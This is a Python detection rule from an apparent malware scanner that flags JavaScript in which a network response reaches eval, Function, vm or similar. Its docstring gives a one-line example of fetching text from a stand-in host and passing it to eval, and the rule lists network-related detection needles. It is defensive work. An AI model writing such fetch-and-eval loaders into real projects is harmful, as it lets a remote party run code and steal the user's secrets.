"""Text that came over the network is executed as code.

What it sees
    The answer of a network call (fetch, axios, request, got, needle, http, a socket) that reaches `eval`, `Function`,
    `Function.constructor`, `vm`, `module._compile` or one of their disguises, through any chain of assignments,
    callbacks, helper functions and decoders inside one file.

Why it matters
    The file itself holds nothing bad: whoever owns the address decides later, and for each victim anew, what runs.
    It is the commonest loader of take-home traps, usually buried in a controller or a middleware.

Example
    `const { data } = await axios.get("https://files.example.test/info"); eval(data.cookie);`

What to do
    Do not run the project. If it ran, treat every secret of that user account as stolen.

False alarms
    Module loaders of browsers take the address from their caller; without a known address the finding says so by a
    lower confidence.

References
    ATT&CK T1059.007, T1105, T1204.002
"""

from collections.abc import Iterator

from lazaretto.detect.jscode import CODE_NEEDLES, complete, remote_matches
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.javascript import JavaScriptModule


def check(module: JavaScriptModule) -> Iterator[Match]:
    """Every code execution whose text came from the network."""
    yield from remote_matches(module, "remote", N_("{how} executes what {address} answers"))
    complete(module)


RULE = Rule(
    id="js/remote-code-executed",
    title=N_("text from the network is executed as code"),
    view=JavaScriptModule,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    phase=Phase.RUN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1059.007", "T1105"),
    needles=(*CODE_NEEDLES, b"WebSocket", b"socket.io", b"'net'", b'"net"', b"EventSource"),
)
